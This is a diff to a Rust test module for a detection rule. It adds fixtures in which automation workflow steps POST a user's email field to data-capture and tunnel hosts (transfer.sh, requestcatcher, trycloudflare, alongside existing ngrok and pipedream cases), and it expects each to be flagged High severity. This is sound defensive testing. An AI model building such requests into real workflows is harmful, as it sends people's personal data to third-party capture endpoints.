@@ -59,6 +59,10 @@ mod tests {
             steps![hook(), post("https://ab12.ngrok-free.app/x").field("data.a", "b")],
             &[(2, "url", Severity::Medium)],
         );
+        for host in ["transfer.sh/a", "enx.requestcatcher.com/x", "x1y2.trycloudflare.com/in"] {
+            let called = post(&format!("https://{host}")).field("data.email", "{{1__email}}");
+            finds(&RULE, steps![hook(), called], &[(2, "url", Severity::High)]);
+        }
         finds(
             &RULE,
             steps![hook(), post("https://eo1abc.m.pipedream.net").field("data.email", "{{1__email}}")],
